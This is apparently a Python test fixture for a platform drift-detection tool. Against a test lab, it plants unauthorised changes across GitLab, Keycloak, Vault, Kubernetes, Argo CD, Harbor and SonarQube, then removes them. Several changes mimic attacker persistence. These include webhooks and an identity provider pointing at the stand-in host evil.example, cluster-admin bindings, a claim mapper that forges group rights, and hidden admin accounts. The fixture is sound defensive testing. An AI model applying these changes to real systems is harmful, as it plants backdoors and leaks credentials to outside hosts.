"""What somebody makes by hand in the systems: each function makes one thing and says how it must be found.

`undo` takes away what was found, by the very call that the finding names.
"""

from __future__ import annotations

import json
import re
import secrets
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

import httpx

from tests.lab_fixture import TestLab
from usine.drift.inventory import Found

#: Whose it is, the last word of its type, its name.
Expected = tuple[str | None, str, str]
#: Planted in every secret that is made by hand: nothing that is reported may hold it.
MARKER = "hand-made-secret"
PERSON = "mallory.by-hand"
REALM = "usine"
_KUBE = "/apis/rbac.authorization.k8s.io/v1"
_ARGO = "/apis/argoproj.io/v1alpha1/namespaces/argocd"


@dataclass(frozen=True)
class Hand:
    """A hand with all rights on the platform. `slug` has an environment `dev`, an app `api`, an infra `deploy`."""

    lab: TestLab
    slug: str
    cluster: str = "nonprod-1"

    @property
    def namespace(self) -> str:
        return f"{self.slug}-dev"

    def gitlab(self, method: str, path: str, body: Any = None) -> Any:
        return _answer(self.lab.gitlab.request(method, path, json=body))

    def group(self) -> int:
        return int(self.gitlab("GET", f"/groups/tenants%2F{self.slug}")["id"])

    def project(self, name: str = "api") -> int:
        return int(self.gitlab("GET", f"/projects/tenants%2F{self.slug}%2F{name}")["id"])

    def gitlab_person(self) -> int:
        found = self.gitlab("GET", f"/users?username={PERSON}")
        if found:
            return int(found[0]["id"])
        body = {"username": PERSON, "name": "M", "email": "m@example.test", "force_random_password": True}
        return int(self.gitlab("POST", "/users", {**body, "skip_confirmation": True})["id"])

    def keycloak(self, method: str, path: str, body: Any = None) -> Any:
        """`path` is below the realm."""
        connection = self.lab.keycloak.connection
        whole = f"admin/realms/{REALM}{path}"
        match method:
            case "GET":
                return _answer(connection.raw_get(whole))
            case "POST":
                answer = connection.raw_post(whole, data=json.dumps(body))
                return str(answer.headers.get("Location", "")).rpartition("/")[2] if answer.ok else _answer(answer)
            case "PUT":
                return _answer(connection.raw_put(whole, data=json.dumps(body or {})))
            case _:
                return _answer(connection.raw_delete(whole, data=json.dumps(body) if body else None))

    def keycloak_group(self, path: str = "") -> str:
        return str(self.keycloak("GET", f"/group-by-path/{self.slug}{path}")["id"])

    def keycloak_person(self) -> str:
        found = self.keycloak("GET", f"/users?username={PERSON}&exact=true")
        return str(found[0]["id"]) if found else str(self.keycloak("POST", "/users", {"username": PERSON}))

    def vault(self, method: str, path: str, body: Any = None) -> Any:
        return self.lab.vault.adapter.request(method, f"/v1/{path}", json=body)

    def kubernetes(self, method: str, path: str, body: Any = None) -> Any:
        return _answer(self.lab.kubernetes.request(method, path, json=body))

    def make(self, path: str, name: str, namespaced: bool = True, **body: Any) -> str:
        """Make an object in the tenant's namespace; return how a finding names it."""
        labels = body.pop("labels", {})
        self.kubernetes("POST", path, {"metadata": {"name": name, "labels": labels}, **body})
        return f"{self.cluster}: {self.namespace}/{name}" if namespaced else f"{self.cluster}: {name}"

    def harbor(self, method: str, path: str, body: Any = None) -> Any:
        return _answer(self.lab.harbor.request(method, path, json=body))

    def harbor_project(self) -> int:
        return int(self.harbor("GET", f"/projects/{self.slug}")["project_id"])

    def sonarqube(self, path: str, **form: str) -> Any:
        return _answer(self.lab.sonarqube.post(path, data=form))


def _answer(answer: Any) -> Any:
    assert answer.status_code < httpx.codes.BAD_REQUEST, f"{answer.status_code} {answer.text}"
    return answer.json() if answer.content else None


# GitLab ---------------------------------------------------------------------------------------------------------------


def gitlab_account(hand: Hand) -> Expected:
    hand.gitlab_person()
    return None, "User", PERSON


def gitlab_member_of_the_group(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/groups/{hand.group()}/members", {"user_id": hand.gitlab_person(), "access_level": 40})
    return hand.slug, "GroupMembership", f"tenants/{hand.slug}: {PERSON}"


def gitlab_member_of_the_root(hand: Hand) -> Expected:
    hand.gitlab("POST", "/groups/tenants/members", {"user_id": hand.gitlab_person(), "access_level": 10})
    return None, "GroupMembership", f"tenants: {PERSON}"


def gitlab_member_of_a_project(hand: Hand) -> Expected:
    body = {"user_id": hand.gitlab_person(), "access_level": 40}
    hand.gitlab("POST", f"/projects/{hand.project()}/members", body)
    return hand.slug, "ProjectMembership", f"tenants/{hand.slug}/api: {PERSON}"


def gitlab_subgroup(hand: Hand) -> Expected:
    hand.gitlab("POST", "/groups", {"name": "extra", "path": "extra", "parent_id": hand.group()})
    return hand.slug, "Group", f"tenants/{hand.slug}/extra"


def gitlab_project(hand: Hand) -> Expected:
    hand.gitlab("POST", "/projects", {"name": "extra-project", "namespace_id": hand.group()})
    return hand.slug, "Project", f"tenants/{hand.slug}/extra-project"


def gitlab_shared_group(hand: Hand) -> Expected:
    platform = hand.gitlab("GET", "/groups/platform")["id"]
    hand.gitlab("POST", f"/groups/{hand.group()}/share", {"group_id": platform, "group_access": 30})
    return hand.slug, "GroupShareGroup", f"tenants/{hand.slug}: platform"


def gitlab_shared_project(hand: Hand) -> Expected:
    catalogue = hand.gitlab("GET", "/projects/platform%2Fcatalogue")["id"]
    hand.gitlab("POST", f"/projects/{catalogue}/share", {"group_id": hand.group(), "group_access": 30})
    return None, "ProjectShareGroup", f"platform/catalogue: tenants/{hand.slug}"


def gitlab_variable_of_the_group(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/groups/{hand.group()}/variables", {"key": "EXTRA", "value": MARKER})
    return hand.slug, "GroupVariable", f"tenants/{hand.slug}: EXTRA:*"


def gitlab_variable_of_a_project(hand: Hand) -> Expected:
    body = {"key": "EXTRA", "value": MARKER, "environment_scope": "prod"}
    hand.gitlab("POST", f"/projects/{hand.project()}/variables", body)
    return hand.slug, "ProjectVariable", f"tenants/{hand.slug}/api: EXTRA:prod"


def gitlab_deploy_token_of_the_group(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["read_repository"]}
    made = hand.gitlab("POST", f"/groups/{hand.group()}/deploy_tokens", body)
    return hand.slug, "GroupDeployToken", f"tenants/{hand.slug}: extra (#{made['id']})"


def gitlab_deploy_token_of_a_project(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["read_repository"]}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/deploy_tokens", body)
    return hand.slug, "ProjectDeployToken", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_access_token_of_the_group(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["api"], "access_level": 40, "expires_at": "2027-06-01"}
    made = hand.gitlab("POST", f"/groups/{hand.group()}/access_tokens", body)
    return hand.slug, "GroupAccessToken", f"tenants/{hand.slug}: extra (#{made['id']})"


def gitlab_access_token_of_a_project(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["api"], "access_level": 40, "expires_at": "2027-06-01"}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/access_tokens", body)
    return hand.slug, "ProjectAccessToken", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_hook(hand: Hand) -> Expected:
    body = {"url": f"https://evil.example/{MARKER}", "token": MARKER}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/hooks", body)
    return hand.slug, "ProjectHook", f"tenants/{hand.slug}/api: #{made['id']}"


def gitlab_schedule(hand: Hand) -> Expected:
    body = {"description": "extra", "ref": "refs/heads/main", "cron": "0 1 * * *"}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/pipeline_schedules", body)
    return hand.slug, "PipelineSchedule", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_protected_branch(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/projects/{hand.project()}/protected_branches", {"name": "extra/*"})
    return hand.slug, "BranchProtection", f"tenants/{hand.slug}/api: extra/*"


def gitlab_protected_tag(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/projects/{hand.project()}/protected_tags", {"name": "extra-*"})
    return hand.slug, "TagProtection", f"tenants/{hand.slug}/api: extra-*"


def gitlab_environment(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/projects/{hand.project('deploy')}/environments", {"name": "extra"})
    return hand.slug, "ProjectEnvironment", f"tenants/{hand.slug}/deploy: extra"


def gitlab_trigger(hand: Hand) -> Expected:
    made = hand.gitlab("POST", f"/projects/{hand.project()}/triggers", {"description": "extra"})
    return hand.slug, "PipelineTrigger", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_runner(hand: Hand) -> Expected:
    made = hand.gitlab("POST", "/user/runners", {"runner_type": "group_type", "group_id": hand.group()})
    return hand.slug, "UserRunner", f"tenants/{hand.slug}: #{made['id']}"


# Keycloak -------------------------------------------------------------------------------------------------------------


def keycloak_account(hand: Hand) -> Expected:
    hand.keycloak_person()
    return None, "User", f"account: {PERSON}"


def keycloak_top_group(hand: Hand) -> Expected:
    hand.keycloak("POST", "/groups", {"name": "extra"})
    return None, "Group", "/extra"


def keycloak_subgroup(hand: Hand) -> Expected:
    hand.keycloak("POST", f"/groups/{hand.keycloak_group()}/children", {"name": "extra"})
    return hand.slug, "Group", f"/{hand.slug}/extra"


def keycloak_member_of_the_tenant(hand: Hand) -> Expected:
    hand.keycloak("PUT", f"/users/{hand.keycloak_person()}/groups/{hand.keycloak_group()}")
    return hand.slug, "GroupMemberships", f"/{hand.slug}: {PERSON}"


def keycloak_default_group(hand: Hand) -> Expected:
    hand.keycloak("PUT", f"/default-groups/{hand.keycloak_group('/owner')}")
    return hand.slug, "DefaultGroups", f"default groups: /{hand.slug}/owner"


def keycloak_role(hand: Hand) -> Expected:
    hand.keycloak("POST", "/roles", {"name": "extra"})
    return None, "Role", "realm role: extra"


def _administration(hand: Hand, role: str) -> tuple[str, list[dict[str, Any]]]:
    client = next(c for c in hand.keycloak("GET", "/clients") if c["clientId"] == "realm-management")
    return client["id"], [hand.keycloak("GET", f"/clients/{client['id']}/roles/{role}")]


def keycloak_role_of_a_person(hand: Hand) -> Expected:
    client, roles = _administration(hand, "realm-admin")
    hand.keycloak("POST", f"/users/{hand.keycloak_person()}/role-mappings/clients/{client}", roles)
    return None, "UserRoles", f"{PERSON}: realm-management realm-admin"


def keycloak_role_of_a_group(hand: Hand) -> Expected:
    client, roles = _administration(hand, "view-users")
    hand.keycloak("POST", f"/groups/{hand.keycloak_group('/owner')}/role-mappings/clients/{client}", roles)
    return hand.slug, "GroupRoles", f"/{hand.slug}/owner: realm-management view-users"


def keycloak_default_role(hand: Hand) -> Expected:
    _, roles = _administration(hand, "view-clients")
    default = hand.keycloak("GET", f"/roles/default-roles-{REALM}")["id"]
    hand.keycloak("POST", f"/roles-by-id/{default}/composites", roles)
    return None, "DefaultRoles", "default roles: view-clients"


def keycloak_client(hand: Hand) -> Expected:
    hand.keycloak("POST", "/clients", {"clientId": "extra", "redirectUris": ["https://evil.example/*"]})
    return None, "Client", "client: extra"


def keycloak_scope(hand: Hand) -> Expected:
    hand.keycloak("POST", "/client-scopes", {"name": "extra", "protocol": "openid-connect"})
    return None, "ClientScope", "client scope: extra"


def _mapper(name: str, kind: str, **config: str) -> dict[str, Any]:
    return {"name": name, "protocol": "openid-connect", "protocolMapper": kind, "config": config}


def keycloak_mapper_of_a_client(hand: Hand) -> Expected:
    client = next(c for c in hand.keycloak("GET", "/clients") if c["clientId"] == "argocd")
    body = _mapper("extra", "oidc-audience-mapper", **{"included.custom.audience": "vault"})
    hand.keycloak("POST", f"/clients/{client['id']}/protocol-mappers/models", body)
    return None, "AudienceProtocolMapper", "argocd: extra"


def keycloak_mapper_that_forges_rights(hand: Hand) -> Expected:
    scope = next(s for s in hand.keycloak("GET", "/client-scopes") if s["name"] == "profile")
    config = {"claim.name": "groups", "claim.value": f"/{hand.slug}/owner", "jsonType.label": "String"}
    body = _mapper("extra", "oidc-hardcoded-claim-mapper", **config)
    hand.keycloak("POST", f"/client-scopes/{scope['id']}/protocol-mappers/models", body)
    return None, "GenericProtocolMapper", "profile: extra"


def keycloak_provider(hand: Hand) -> Expected:
    config = {
        "clientId": "x",
        "clientSecret": MARKER,
        "authorizationUrl": "https://evil.example/a",
        "tokenUrl": "https://evil.example/t",
    }
    body = {"alias": "extra", "providerId": "oidc", "enabled": True, "config": config}
    hand.keycloak("POST", "/identity-provider/instances", body)
    return None, "IdentityProvider", "identity provider: extra"


# Vault ----------------------------------------------------------------------------------------------------------------


def vault_mount(hand: Hand) -> Expected:
    hand.vault("POST", "sys/mounts/extra", {"type": "kv", "options": {"version": "2"}})
    return None, "Mount", "mount: extra"


def vault_log_in(hand: Hand) -> Expected:
    hand.vault("POST", "sys/auth/extra", {"type": "userpass"})
    return None, "AuthBackend", "log-in: extra"


def vault_policy(hand: Hand) -> Expected:
    hand.vault("POST", f"sys/policies/acl/{hand.slug}.extra", {"policy": 'path "*" { capabilities = ["read"] }'})
    return hand.slug, "Policy", f"policy: {hand.slug}.extra"


def vault_workload_role(hand: Hand) -> Expected:
    body = {
        "bound_service_account_names": "*",
        "bound_service_account_namespaces": "kube-system",
        "token_policies": f"{hand.slug}.env.dev",
    }
    hand.vault("POST", f"auth/kubernetes/{hand.cluster}/role/{hand.slug}-extra", body)
    return hand.slug, "AuthBackendRole", f"role of kubernetes/{hand.cluster}: {hand.slug}-extra"


def vault_pipeline_role(hand: Hand) -> Expected:
    """Nobody's by its name, the tenant's by what it gives."""
    body = {
        "role_type": "jwt",
        "user_claim": "project_path",
        "bound_audiences": "extra",
        "token_policies": f"{hand.slug}.ci",
    }
    hand.vault("POST", "auth/gitlab/role/handy", body)
    return hand.slug, "AuthBackendRole", "role of gitlab: handy"


def vault_group(hand: Hand) -> Expected:
    hand.vault("POST", "identity/group", {"name": "extra", "policies": [f"{hand.slug}.role.owner"]})
    return hand.slug, "Group", "group: extra"


def vault_alias(hand: Hand) -> Expected:
    mounts = hand.vault("GET", "sys/auth")["data"]
    group = hand.vault("POST", "identity/group", {"name": f"{hand.slug}.aliased", "type": "external"})["data"]["id"]
    body = {"name": f"/{hand.slug}/extra", "mount_accessor": mounts["oidc/"]["accessor"], "canonical_id": group}
    hand.vault("POST", "identity/group-alias", body)
    return hand.slug, "GroupAlias", f"group alias: /{hand.slug}/extra of auth/oidc/"


def vault_group_of_the_alias(hand: Hand) -> Expected:
    """Made for the alias."""
    return hand.slug, "Group", f"group: {hand.slug}.aliased"


def vault_entity(hand: Hand) -> Expected:
    hand.vault("POST", "identity/entity", {"name": "extra", "policies": [f"{hand.slug}.role.owner"]})
    return hand.slug, "Entity", "entity: extra"


def vault_token(hand: Hand) -> Expected:
    body = {"policies": [f"{hand.slug}.role.owner"], "display_name": "extra", "no_parent": True}
    accessor = hand.vault("POST", "auth/token/create", body)["auth"]["accessor"]
    return hand.slug, "Token", f"token: token-extra ({accessor[:8]}…)"


# Kubernetes and Argo CD -----------------------------------------------------------------------------------------------


def kubernetes_namespace(hand: Hand) -> Expected:
    hand.make("/api/v1/namespaces", f"{hand.slug}-extra", namespaced=False)
    return hand.slug, "Namespace", f"{hand.cluster}: {hand.slug}-extra"


def kubernetes_labelled_namespace(hand: Hand) -> Expected:
    hand.make("/api/v1/namespaces", "extra", namespaced=False, labels={"usine.dev/tenant": hand.slug})
    return hand.slug, "Namespace", f"{hand.cluster}: extra"


def kubernetes_namespace_of_nobody(hand: Hand) -> Expected:
    hand.make("/api/v1/namespaces", "stray", namespaced=False)
    return None, "Namespace", f"{hand.cluster}: stray"


def kubernetes_role(hand: Hand) -> Expected:
    rules = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}]
    return hand.slug, "Role", hand.make(f"{_KUBE}/namespaces/{hand.namespace}/roles", "extra", rules=rules)


def _to(kind: str, name: str, role: str, **subject: str) -> dict[str, Any]:
    api = {} if kind == "ServiceAccount" else {"apiGroup": "rbac.authorization.k8s.io"}
    return {
        "subjects": [{"kind": kind, "name": name, **api, **subject}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
    }


def kubernetes_role_binding(hand: Hand) -> Expected:
    path = f"{_KUBE}/namespaces/{hand.namespace}/rolebindings"
    return hand.slug, "RoleBinding", hand.make(path, "extra", **_to("User", "oidc:mallory", "cluster-admin"))


def kubernetes_role_binding_elsewhere(hand: Hand) -> Expected:
    to = _to("ServiceAccount", "vault", "view", namespace=hand.namespace)
    hand.make(f"{_KUBE}/namespaces/kube-system/rolebindings", "extra", **to)
    return hand.slug, "RoleBinding", f"{hand.cluster}: kube-system/extra"


def kubernetes_cluster_role_binding(hand: Hand) -> Expected:
    to = _to("Group", f"oidc:/{hand.slug}/owner", "cluster-admin")
    return hand.slug, "ClusterRoleBinding", hand.make(f"{_KUBE}/clusterrolebindings", "extra", namespaced=False, **to)


def kubernetes_cluster_role_binding_of_a_person(hand: Hand) -> Expected:
    to = _to("User", "oidc:mallory", "cluster-admin")
    return None, "ClusterRoleBinding", hand.make(f"{_KUBE}/clusterrolebindings", "extra-2", namespaced=False, **to)


def kubernetes_network_policy(hand: Hand) -> Expected:
    path = f"/apis/networking.k8s.io/v1/namespaces/{hand.namespace}/networkpolicies"
    spec = {"podSelector": {}, "ingress": [{}], "policyTypes": ["Ingress"]}
    return hand.slug, "NetworkPolicy", hand.make(path, "extra", spec=spec)


def kubernetes_quota(hand: Hand) -> Expected:
    path = f"/api/v1/namespaces/{hand.namespace}/resourcequotas"
    return hand.slug, "ResourceQuota", hand.make(path, "extra", spec={"hard": {"pods": "1"}})


def kubernetes_limits(hand: Hand) -> Expected:
    path = f"/api/v1/namespaces/{hand.namespace}/limitranges"
    limits = [{"type": "Container", "max": {"cpu": "8"}}]
    return hand.slug, "LimitRange", hand.make(path, "extra", spec={"limits": limits})


def kubernetes_account(hand: Hand) -> Expected:
    return hand.slug, "ServiceAccount", hand.make(f"/api/v1/namespaces/{hand.namespace}/serviceaccounts", "extra")


def kubernetes_secret_like_ours(hand: Hand) -> Expected:
    path = f"/api/v1/namespaces/{hand.namespace}/secrets"
    labels = {"app.kubernetes.io/managed-by": "usine"}
    return hand.slug, "Secret", hand.make(path, "extra", labels=labels, stringData={"key": MARKER})


def argocd_project(hand: Hand) -> Expected:
    name = f"{hand.slug}-extra"
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "AppProject", "spec": {"sourceRepos": ["*"]}}
    hand.make(f"{_ARGO}/appprojects", name, namespaced=False, **body)
    return hand.slug, "AppProject", f"{hand.cluster}: argocd/{name}"


def argocd_application(hand: Hand) -> Expected:
    spec = {
        "project": f"{hand.slug}-dev",
        "source": {"repoURL": "https://evil.example/x.git", "path": "."},
        "destination": {"server": "https://kubernetes.default.svc", "namespace": hand.namespace},
    }
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "spec": spec}
    hand.make(f"{_ARGO}/applications", "extra", namespaced=False, **body)
    return hand.slug, "Application", f"{hand.cluster}: argocd/extra"


def _argocd_secret(hand: Hand, name: str, kind: str, **data: str) -> str:
    labels = {"argocd.argoproj.io/secret-type": kind}
    hand.make("/api/v1/namespaces/argocd/secrets", name, namespaced=False, labels=labels, stringData=data)
    return f"{hand.cluster}: argocd/{name}"


def argocd_repository(hand: Hand) -> Expected:
    name = f"usine-{hand.slug}--extra"
    where = "https://evil.example/x.git"
    return hand.slug, "Secret", _argocd_secret(hand, name, "repository", url=where, password=MARKER)


def argocd_cluster(hand: Hand) -> Expected:
    made = _argocd_secret(hand, "extra", "cluster", server="https://evil.example", config=f'{{"t": "{MARKER}"}}')
    return None, "Secret", made


# Harbor ---------------------------------------------------------------------------------------------------------------


def harbor_project(hand: Hand) -> Expected:
    hand.harbor("POST", "/projects", {"project_name": "extra", "metadata": {"public": "true"}})
    return None, "Project", "extra"


def _robot(level: str, namespace: str) -> dict[str, Any]:
    access = [{"resource": "repository", "action": "pull"}]
    permissions = [{"kind": "project", "namespace": namespace, "access": access}]
    return {"name": "extra", "level": level, "duration": -1, "permissions": permissions}


def harbor_robot_of_the_project(hand: Hand) -> Expected:
    return hand.slug, "RobotAccount", f"robot: {hand.harbor('POST', '/robots', _robot('project', hand.slug))['name']}"


def harbor_robot_of_the_registry(hand: Hand) -> Expected:
    return None, "RobotAccount", f"robot: {hand.harbor('POST', '/robots', _robot('system', hand.slug))['name']}"


def harbor_member(hand: Hand) -> Expected:
    group = {"group_name": "/others/owner", "group_type": 3}
    body = {"role_id": 1, "member_group": group}
    hand.harbor("POST", f"/projects/{hand.harbor_project()}/members", body)
    return hand.slug, "ProjectMemberGroup", f"{hand.slug}: /others/owner"


def harbor_immutable_rule(hand: Hand) -> Expected:
    def selector(decoration: str, pattern: str) -> dict[str, str]:
        return {"kind": "doublestar", "decoration": decoration, "pattern": pattern}

    body = {
        "action": "immutable",
        "template": "immutable_template",
        "tag_selectors": [selector("matches", "extra-*")],
        "scope_selectors": {"repository": [selector("repoMatches", "**")]},
    }
    path = f"/projects/{hand.harbor_project()}/immutabletagrules"
    hand.harbor("POST", path, body)
    number = max(rule["id"] for rule in hand.harbor("GET", path))
    return hand.slug, "ImmutableTagRule", f"{hand.slug}: immutable extra-* (#{number})"


def harbor_webhook(hand: Hand) -> Expected:
    target = {"type": "http", "address": f"https://evil.example/{MARKER}", "auth_header": MARKER}
    body = {"name": "extra", "targets": [target], "event_types": ["PUSH_ARTIFACT"], "enabled": True}
    hand.harbor("POST", f"/projects/{hand.harbor_project()}/webhook/policies", body)
    return hand.slug, "ProjectWebhook", f"{hand.slug}: webhook extra"


def harbor_label_of_the_project(hand: Hand) -> Expected:
    hand.harbor("POST", "/labels", {"name": "extra", "scope": "p", "project_id": hand.harbor_project()})
    return hand.slug, "Label", f"{hand.slug}: label extra"


def harbor_label(hand: Hand) -> Expected:
    hand.harbor("POST", "/labels", {"name": "extra", "scope": "g"})
    return None, "Label", "label extra"


def harbor_registry(hand: Hand) -> Expected:
    body = {"name": "extra", "type": "docker-registry", "url": hand.lab.harbor.base_url.copy_with(path="/").__str__()}
    hand.harbor("POST", "/registries", body)
    return None, "Registry", "registry: extra"


# SonarQube ------------------------------------------------------------------------------------------------------------


def sonarqube_project(hand: Hand) -> Expected:
    hand.sonarqube("/api/projects/create", project=f"{hand.slug}:extra", name="extra")
    return hand.slug, "Project", f"project: {hand.slug}:extra"


def sonarqube_group(hand: Hand) -> Expected:
    _answer(hand.lab.sonarqube.post("/api/v2/authorizations/groups", json={"name": f"/{hand.slug}/extra"}))
    return hand.slug, "Group", f"group: /{hand.slug}/extra"


def sonarqube_gate(hand: Hand) -> Expected:
    hand.sonarqube("/api/qualitygates/create", name="extra")
    return None, "QualityGate", "gate: extra"


def _webhook(hand: Hand, **project: str) -> str:
    url = f"https://evil.example/{MARKER}"
    return str(hand.sonarqube("/api/webhooks/create", name="extra", url=url, **project)["webhook"]["key"])


def sonarqube_webhook_of_a_project(hand: Hand) -> Expected:
    key = f"{hand.slug}:api"
    return hand.slug, "Webhook", f"{key}: webhook extra ({_webhook(hand, project=key)})"


def sonarqube_webhook_of_the_server(hand: Hand) -> Expected:
    return None, "Webhook", f"every project: webhook extra ({_webhook(hand)})"


def sonarqube_token_of_a_project(hand: Hand) -> Expected:
    form = {"name": "extra", "type": "PROJECT_ANALYSIS_TOKEN", "projectKey": f"{hand.slug}:api"}
    login = hand.sonarqube("/api/user_tokens/generate", **form)["login"]
    return hand.slug, "ProjectAnalysisToken", f"token: {login}/extra"


def sonarqube_token_of_the_server(hand: Hand) -> Expected:
    login = hand.sonarqube("/api/user_tokens/generate", name="extra-2", type="GLOBAL_ANALYSIS_TOKEN")["login"]
    return None, "ProjectAnalysisToken", f"token: {login}/extra-2"


def sonarqube_administrator(hand: Hand) -> Expected:
    body = {"login": PERSON, "name": PERSON, "password": f"{secrets.token_urlsafe(16)}Aa1!", "local": True}
    user = _answer(hand.lab.sonarqube.post("/api/v2/users-management/users", json=body))["id"]
    groups = _answer(hand.lab.sonarqube.get("/api/v2/authorizations/groups", params={"q": "sonar-administrators"}))
    body = {"userId": user, "groupId": groups["groups"][0]["id"]}
    _answer(hand.lab.sonarqube.post("/api/v2/authorizations/group-memberships", json=body))
    return None, "GroupMembership", f"sonar-administrators: {PERSON}"


#: In the order in which they can be made.
DEEDS: tuple[Callable[[Hand], Expected], ...] = tuple(
    value
    for name, value in list(globals().items())
    if re.match("(gitlab|keycloak|vault|kubernetes|argocd|harbor|sonarqube)_", name) and callable(value)
)


# Taking away ----------------------------------------------------------------------------------------------------------


def undo(hand: Hand, found: Found) -> None:
    """Do what the finding says."""
    if found.removal.startswith("kubectl "):
        _kubectl(hand, found)
        return
    for call in found.removal.split(", then "):
        method, _, rest = call.partition(" ")
        path, _, body = rest.partition(" ")
        _SYSTEMS[found.system](hand, method, path, json.loads(body) if body.startswith(("{", "[")) else None)


def in_order(found: Found) -> tuple[bool, ...]:
    """Sort so that nothing takes another finding away with it: accounts and containers go last, a member of a group
    after the members of its projects, and of the root after those of the groups below.
    """
    contains = found.type.endswith((":User", ":Group", ":Project", ":Mount", ":Namespace"))
    return contains, found.type.endswith(":GroupMembership"), found.name.startswith("tenants: ")


def _kubectl(hand: Hand, found: Found) -> None:
    words = re.fullmatch(r"kubectl --context (\S+)(?: -n (\S+))? delete (\S+) (\S+)", found.removal)
    assert words, found.removal
    _, namespace, plural, name = words.groups()
    apis: Mapping[str, str] = {
        **dict.fromkeys(("roles", "rolebindings", "clusterroles", "clusterrolebindings"), _KUBE),
        "networkpolicies": "/apis/networking.k8s.io/v1",
        **dict.fromkeys(("appprojects", "applications"), "/apis/argoproj.io/v1alpha1"),
    }
    where = f"/namespaces/{namespace}" if namespace else ""
    hand.kubernetes("DELETE", f"{apis.get(plural, '/api/v1')}{where}/{plural}/{name}")


def _vault(hand: Hand, method: str, path: str, body: Any) -> None:
    if path.startswith("/v1/auth/token/revoke-accessor"):
        return  # the finding has the accessor's first characters only: see `revoke`
    hand.vault(method, path.removeprefix("/v1/"), body)


def revoke(hand: Hand, found: Found) -> None:
    """Revoke the token of a finding, as a person who reads the list of accessors can."""
    begins = found.removal.rpartition(" ")[2]
    accessors = hand.vault("LIST", "auth/token/accessors")["data"]["keys"]
    (accessor,) = (one for one in accessors if one.startswith(begins))
    hand.vault("POST", "auth/token/revoke-accessor", {"accessor": accessor})


_SYSTEMS: Mapping[str, Callable[[Hand, str, str, Any], Any]] = {
    "gitlab": lambda hand, method, path, body: hand.gitlab(method, path.removeprefix("/api/v4"), body),
    "keycloak": lambda hand, method, path, body: hand.keycloak(
        method, path.removeprefix(f"/admin/realms/{REALM}"), body
    ),
    "vault": _vault,
    "harbor": lambda hand, method, path, body: hand.harbor(method, path.removeprefix("/api/v2.0"), body),
    "sonarqube": lambda hand, method, path, body: _answer(hand.lab.sonarqube.request(method, path, json=body)),
}


def sweep(hand: Hand) -> None:
    """Take away the accounts: what a finding says blocks one of them, and does not speak of the other."""
    hand.gitlab("DELETE", f"/users/{hand.gitlab_person()}?hard_delete=true")
    users = _answer(hand.lab.sonarqube.get("/api/v2/users-management/users", params={"q": PERSON}))["users"]
    for user in users:
        _answer(hand.lab.sonarqube.delete(f"/api/v2/users-management/users/{user['id']}"))
    hand.vault("DELETE", "identity/entity/name/extra")
